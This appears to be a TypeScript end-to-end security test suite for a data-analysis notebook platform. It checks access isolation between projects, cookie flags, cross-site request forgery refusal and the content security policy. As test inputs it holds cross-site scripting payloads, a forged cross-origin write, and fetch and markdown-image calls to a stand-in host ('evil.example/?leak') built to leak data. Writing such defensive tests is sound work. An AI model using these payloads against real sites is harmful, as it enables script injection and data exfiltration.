// What a hostile insider or a hostile page would try in the browser: other people's addresses, stolen cookies, forged writes, injected scripts.
import { addBlock, newNotebook, run, write } from "./notebook-page.ts";
import { callApi } from "./people.ts";
import { expect, listen, test } from "./story.ts";

test("the addresses of another project lead nowhere", async ({ as }) => {
  const owner = await as("analyst3");
  const notebook = await newNotebook(owner, "P-002", "Not yours");
  const block = await addBlock(owner, "Add SQL");
  await write(owner, block, "SELECT male, count(*) AS n FROM nafld1 GROUP BY male");
  const result = owner.waitForResponse((answer) => /\/api\/results\/[^/]+$/.test(answer.url()));
  await run(owner, block, /2 cells shown/);
  const resultPath = new URL((await result).url()).pathname;
  const asked = await callApi(owner, "POST", "/api/projects/P-002/egress", {
    title: "Not yours",
    purpose: "A paper.",
    class: "publication",
  });
  expect(asked.status).toBe(200);
  const request = (asked.body as { readonly id: string }).id;

  // The administrator and the auditor are no members: they manage, they do not read results.
  for (const login of ["admin", "auditor"] as const) {
    const page = await as(login);
    for (const path of [
      `/api/notebooks/${notebook}`,
      resultPath,
      `${resultPath}/arrow`,
      `/api/egress/${request}/terms`,
    ]) {
      const answer = await callApi(page, "GET", path);
      expect([403, 404], `${login} ${path}`).toContain(answer.status);
    }
  }

  // An analyst, but of another project; the answer for what exists is the answer for what does not.
  const other = await as("analyst2");
  for (const path of [
    `/api/notebooks/${notebook}`,
    `/api/notebooks/${notebook.replace(/^./, (first) => (first === "0" ? "1" : "0"))}`,
    resultPath,
    `${resultPath}/arrow`,
    "/api/projects/P-002",
    "/api/projects/P-002/catalog",
    `/api/egress/${request}`,
    `/api/egress/${request}/terms`,
  ])
    expect((await callApi(other, "GET", path)).status, path).toBe(404);
  await other.goto(`/notebooks/${notebook}`);
  await expect(other.getByRole("alert")).toBeVisible();
  await expect(other.locator("body")).not.toContainText("Not yours");
  await other.goto("/projects/P-002");
  await expect(other.getByRole("alert")).toBeVisible();
  await expect(other.locator("body")).not.toContainText("fatty liver");
  await callApi(owner, "POST", `/api/egress/${request}/withdraw`, {});
});

test("pages of administration, review and audit are empty for an analyst", async ({ as }) => {
  const page = await as("analyst1");
  for (const path of [
    "/api/admin/users",
    "/api/admin/datasets",
    "/api/audit",
    "/api/audit/verify",
    "/api/egress?queue=review",
  ]) {
    const answer = await callApi(page, "GET", path);
    expect([403, 404], path).toContain(answer.status);
  }
  await page.goto("/admin/users");
  await expect(page.locator("main")).not.toContainText("reviewer1");
  await page.goto("/audit");
  await expect(page.locator("main")).not.toContainText("sign-in");
});

test("the session cookie is out of reach of scripts and of other sites", async ({ as }) => {
  const page = await as("analyst1");
  await page.goto("/");
  const cookies = await page.context().cookies();
  expect(cookies).toHaveLength(1);
  expect(cookies[0]).toMatchObject({
    name: "__Host-sekisho",
    httpOnly: true,
    secure: true,
    sameSite: "Strict",
    path: "/",
    expires: -1,
  });
  expect(await page.evaluate(() => document.cookie)).toBe("");
  // The session itself stands nowhere a script could read it.
  const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
  expect(stored).not.toContain(cookies[0]?.value ?? "no cookie");
});

test("a write without our header, or from another site, is refused", async ({ as }) => {
  const page = await as("analyst1");
  await page.goto("/");
  const plain = await page.evaluate(async () => {
    const body = JSON.stringify({ title: "forged" });
    const answer = await fetch("/api/projects/P-001/notebooks", { method: "POST", body });
    return answer.status;
  });
  expect(plain).toBe(403);
  const cookie = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join("; ");
  const forged = await page.request.post("/api/projects/P-001/notebooks", {
    headers: { cookie, origin: "https://evil.example", "x-sekisho": "1" },
    data: { title: "forged" },
  });
  expect(forged.status()).toBe(403);
  const books = await callApi(page, "GET", "/api/projects/P-001/notebooks");
  expect(JSON.stringify(books.body)).not.toContain("forged");
});

test("an injected script does not run, whatever way it came in", async ({ as, browser, baseURL }) => {
  const page = await as("analyst1");
  const answer = await page.goto("/");
  const policy = answer?.headers()["content-security-policy"] ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(answer?.headers()["x-content-type-options"]).toBe("nosniff");

  // Markdown is the one place where people write what others read.
  await newNotebook(page, "P-001", "<img src=x onerror=alert(1)>");
  const text = await addBlock(page, "Add text");
  await page.keyboard.insertText(
    "# Kept\n\n<script>window.injected = 1</script><img src=x onerror='window.injected = 2'>\n\n[go](javascript:window.injected=3) ![out](https://evil.example/?leak)",
  );
  await page.keyboard.press("Escape");
  await expect(text.getByRole("heading", { name: "Kept" })).toBeVisible();
  await expect(text.locator("script, img, [onerror], a[href^='javascript:']")).toHaveCount(0);
  expect(await page.evaluate(() => "injected" in window)).toBe(false);

  // A page of its own: these violations are wanted, and show that the ear of every other story hears them.
  const context = await browser.newContext({
    ...(baseURL && { baseURL }),
    storageState: await page.context().storageState(),
  });
  const victim = await context.newPage();
  const heard = { texts: [] as string[] };
  listen(victim, heard);
  await victim.goto("/");
  await expect(victim.getByRole("heading", { level: 1 })).toBeVisible();
  const ran = await victim.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.injected = 1";
    document.body.append(script);
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.injected = 2");
    document.body.append(button);
    button.click();
    await fetch("https://evil.example/?leak").catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return "injected" in window;
  });
  expect(ran).toBe(false);
  expect(heard.texts.filter((one) => /Content Security Policy/i.test(one)).length).toBeGreaterThanOrEqual(3);
  await context.close();
});
